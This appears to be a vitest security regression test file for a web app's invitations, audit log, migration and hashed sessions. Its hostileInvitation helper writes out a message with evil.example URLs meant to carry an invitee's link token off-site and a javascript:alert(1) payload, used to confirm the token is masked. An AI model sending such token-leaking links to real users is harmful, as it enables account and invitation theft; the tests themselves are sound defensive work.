// Review of issue 11 (items 6, 8, 13, 16, 23): what an attacker or a bad URL could still do after the first fixes.
import fs from "node:fs";
import Database from "better-sqlite3";
import { eq } from "drizzle-orm";
import { afterEach, describe, expect, it } from "vitest";
import { hashLegacySessionIds, sessionKey } from "../../app/auth/adapter.server";
import { lucia } from "../../app/auth/lucia.server";
import { sealLegacyLinks } from "../../app/auth/maintenance.server";
import { db, schema } from "../../app/db.server";
import { dispatchOutbox, type Transport } from "../../app/email/dispatcher.server";
import { LINK_TOKEN_PLACEHOLDER, openToken } from "../../app/email/link-secret.server";
import { env } from "../../app/env.server";
import { execute } from "../../app/commands/command.server";
import { drainEvents } from "../../app/events/dispatcher.server";
import { changeMemberRole } from "../../app/features/groups/commands/change-member-role.server";
import { inviteMembers } from "../../app/features/groups/commands/invite-members.server";
import { changePassword } from "../../app/models/user.server";
import { findInvitation, invitationLink } from "../../app/models/invitation.server";
import * as adminAudit from "../../app/routes/admin.audit";
import * as outboxRoute from "../../app/routes/admin.outbox";
import * as manage from "../../app/routes/g.$slug.manage";
import { PASSWORD, addMember, createUser, makeGroup, sessionCookie } from "../support/factories";
import { migratedBefore } from "../support/migrations";
import { callAction, callLoader, getRequest, postRequest } from "../support/remix";

const quiet = () => {};

/** A moderator's invitation whose personal message tries to carry the invitee's token to another site. */
async function hostileInvitation(email: string) {
  const group = makeGroup();
  const mod = await createUser();
  addMember(group.id, mod.id, { role: "moderator" });
  const message = `Open https://evil.example/?t=${LINK_TOKEN_PLACEHOLDER} or https://evil.example/?u=${env.APP_URL}/invite/${LINK_TOKEN_PLACEHOLDER} or javascript:alert(1)//${LINK_TOKEN_PLACEHOLDER}`;
  expect(execute(inviteMembers, mod, { groupId: group.id, entries: [{ email, name: null }], message }).ok).toBe(true);
  drainEvents(); // the invitation e-mail is written by its subscriber, after the commit
  const mail = db().select().from(schema.emailOutbox).where(eq(schema.emailOutbox.toAddress, email)).get()!;
  const token = openToken(mail.linkSecret!, mail.toAddress)!;
  expect(findInvitation(token)?.state).toBe("valid");
  return { mail, token };
}

describe("an invitation's personal message (the inviter's text)", () => {
  it("cannot route the invitee's token to another site in the e-mail that is sent", async () => {
    const { token } = await hostileInvitation("target@example.test");
    const sent: { text: string; html: string }[] = [];
    const transport: Transport = { sendMail: async (m) => void sent.push({ text: String(m.text), html: String(m.html) }) };
    expect((await dispatchOutbox({ transport, log: quiet })).sent).toBe(1);
    const [{ text, html }] = sent;
    // The token is in the app's own link only: once in the text, twice in the HTML (the button and the address).
    expect(text.split(token).length - 1).toBe(1);
    expect(text).toContain(`${invitationLink(token)}\n`);
    expect(html.split(token).length - 1).toBe(2);
    expect(text).toContain("https://evil.example/?t=••••••••");
    expect(text).toContain(`https://evil.example/?u=${env.APP_URL}/invite/••••••••`);
    expect(text).toContain("javascript:alert(1)//••••••••");
    expect(text + html).not.toContain(LINK_TOKEN_PLACEHOLDER);
  });

  it("cannot make an admin who reveals the logged link see another address", async () => {
    const { mail, token } = await hostileInvitation("logged-target@example.test");
    expect((await dispatchOutbox({ transport: null, log: quiet })).logged).toBeGreaterThanOrEqual(1);
    const admin = await createUser({ role: "admin" });
    const revealed = await callAction(
      outboxRoute,
      postRequest("/admin/outbox", { intent: "reveal", id: String(mail.id) }, { cookie: await sessionCookie(admin.id) }),
    );
    expect(revealed.status).toBe(200);
    expect(revealed.data.link).toBe(invitationLink(token));
  });

  it("cannot make the sealing of an old clear-text e-mail pick a decoy and leave the real token in the row", async () => {
    await db().delete(schema.emailOutbox).run();
    const { mail, token } = await hostileInvitation("legacy-target@example.test");
    const decoy = "A".repeat(43);
    // The row as it was stored before 0008: the token in clear, and a decoy link in the message before it.
    const clear = (body: string) => body.replace("https://evil.example/?t=", `https://evil.example/invite/${decoy} `).replaceAll(LINK_TOKEN_PLACEHOLDER, token);
    db()
      .update(schema.emailOutbox)
      .set({ textBody: clear(mail.textBody), htmlBody: clear(mail.htmlBody), linkSecret: null, linkExpiresAt: null })
      .where(eq(schema.emailOutbox.id, mail.id))
      .run();
    expect(sealLegacyLinks()).toBe(1);
    const row = db().select().from(schema.emailOutbox).get()!;
    expect(JSON.stringify(row)).not.toContain(token);
    expect(openToken(row.linkSecret!, row.toAddress)).toBe(token);
  });
});

describe("the audit log", () => {
  it("answers a day filter at the calendar's edge with a notice, not a 500", async () => {
    const admin = await createUser({ role: "admin" });
    const cookie = await sessionCookie(admin.id);
    for (const query of ["to=9999-12-31", "from=9999-12-31", "from=0000-01-01", "to=0099-12-31"]) {
      const res = await callLoader(adminAudit, getRequest(`/admin/audit?${query}`, { cookie }));
      expect(res.status, query).toBe(200);
      expect(res.data.invalid.length, query).toBe(1);
    }
  });

  it("gives moderators the names of the people in the group's log, not their addresses", async () => {
    const group = makeGroup();
    const staff = await createUser({ role: "staff" });
    const mod = await createUser();
    const member = await createUser({ email: "private.address@example.test", name: "Pia Private" });
    addMember(group.id, mod.id, { role: "moderator" });
    addMember(group.id, member.id);
    expect(execute(changeMemberRole, staff, { groupId: group.id, userId: member.id, role: "moderator" }).ok).toBe(true);
    expect(execute(changeMemberRole, staff, { groupId: group.id, userId: member.id, role: "member" }).ok).toBe(true);
    const res = await callLoader(manage, getRequest(`/g/${group.slug}/manage`, { cookie: await sessionCookie(mod.id) }), { slug: group.slug });
    expect(res.status).toBe(200);
    const people = res.data.log.filter((r: { subject: { type: string } }) => r.subject.type === "person");
    expect(people.map((r: { subject: { name: string } }) => r.subject.name)).toEqual(["Pia Private", "Pia Private"]);
    expect(JSON.stringify(res.data.log)).not.toContain(member.email);
  });
});

describe("migration 0008 on a database from before it", () => {
  const dirs: string[] = [];
  afterEach(() => dirs.splice(0).forEach((d) => fs.rmSync(d, { recursive: true, force: true })));

  it("keeps every outbox, rate-limit, session and token row, and gives old rate-limit windows an end", () => {
    const { dir, file, migrateRest } = migratedBefore("0008_secret_links");
    dirs.push(dir);
    const old = new Database(file);
    old.prepare("INSERT INTO users (id, email, name, handle) VALUES ('u1', 'u1@example.test', 'U', 'u')").run();
    const insertMail = old.prepare(
      "INSERT INTO email_outbox (kind, to_address, subject, text_body, html_body, status, created_at) VALUES (?, ?, ?, ?, ?, ?, ?)",
    );
    for (let i = 0; i < 30; i++)
      insertMail.run(i % 2 ? "password-reset" : "notification", "u1@example.test", `S${i}`, `text ${i}`, `<p>${i}</p>`, i % 3 ? "sent" : "pending", 1_000 + i);
    const insertLimit = old.prepare("INSERT INTO rate_limits (key, window_start, count) VALUES (?, ?, ?)");
    for (let i = 0; i < 20; i++) insertLimit.run(`login:ip:${i}`, 5_000 + i, i);
    old.prepare("INSERT INTO sessions (id, user_id, expires_at) VALUES ('s1', 'u1', 100), ('s2', 'u1', 9999999999)").run();
    old.prepare("INSERT INTO password_tokens (token_hash, user_id, purpose, expires_at) VALUES ('h1', 'u1', 'reset', 10), ('h2', 'u1', 'setup', 20)").run();
    const dump = (d: Database.Database) => ({
      mail: d.prepare("SELECT id, kind, to_address, subject, text_body, html_body, status, created_at FROM email_outbox ORDER BY id").all(),
      limits: d.prepare("SELECT key, window_start, count FROM rate_limits ORDER BY key").all(),
      sessions: d.prepare("SELECT * FROM sessions ORDER BY id").all(),
      tokens: d.prepare("SELECT token_hash, user_id, purpose, expires_at, used_at FROM password_tokens ORDER BY token_hash").all(),
    });
    const before = dump(old);
    old.close();

    migrateRest();
    const after = new Database(file);
    expect(dump(after)).toEqual(before);
    expect(after.prepare("SELECT count(*) FROM rate_limits WHERE expires_at <> window_start + 3600000").pluck().get()).toBe(0);
    expect(after.prepare("SELECT count(*) FROM email_outbox WHERE link_secret IS NOT NULL OR link_expires_at IS NOT NULL").pluck().get()).toBe(0);
    expect(after.prepare("PRAGMA foreign_key_check").all()).toEqual([]);
    after.close();
  });
});

describe("sessions", () => {
  const idOf = (cookie: string) => cookie.split("=")[1];
  const storedIds = () =>
    db()
      .select({ id: schema.sessions.id })
      .from(schema.sessions)
      .all()
      .map((r) => r.id);

  it("are stored by the hash of their id: a copy of the table holds no cookie that signs anyone in", async () => {
    const user = await createUser();
    const id = idOf(await sessionCookie(user.id));
    expect(storedIds()).not.toContain(id);
    expect(storedIds()).toContain(sessionKey(id));
    for (const stored of storedIds()) expect((await lucia().validateSession(stored)).user).toBeNull();
    const valid = await lucia().validateSession(id);
    expect(valid.user?.id).toBe(user.id);
    expect(valid.session?.id).toBe(id);
    await lucia().invalidateSession(id);
    expect(storedIds()).not.toContain(sessionKey(id));
  });

  it("a password change keeps the session it was made in and ends the others", async () => {
    const user = await createUser();
    const current = idOf(await sessionCookie(user.id));
    const other = idOf(await sessionCookie(user.id));
    expect(await changePassword({ userId: user.id, sessionId: current, current: PASSWORD, next: "a different long password" })).toEqual({ ok: true });
    expect((await lucia().validateSession(current)).user?.id).toBe(user.id);
    expect((await lucia().validateSession(other)).user).toBeNull();
  });

  it("made before ids were hashed keep working once hashed at start, and their ids leave the table", async () => {
    const user = await createUser();
    const legacy = "abcdefghijklmnopqrstuvwxyz234567abcdefgh";
    db()
      .insert(schema.sessions)
      .values({ id: legacy, userId: user.id, expiresAt: Math.floor(Date.now() / 1000) + 3600 })
      .run();
    expect(hashLegacySessionIds()).toBe(1);
    expect(storedIds()).not.toContain(legacy);
    expect((await lucia().validateSession(legacy)).user?.id).toBe(user.id);
    expect(hashLegacySessionIds()).toBe(0);
  });
});
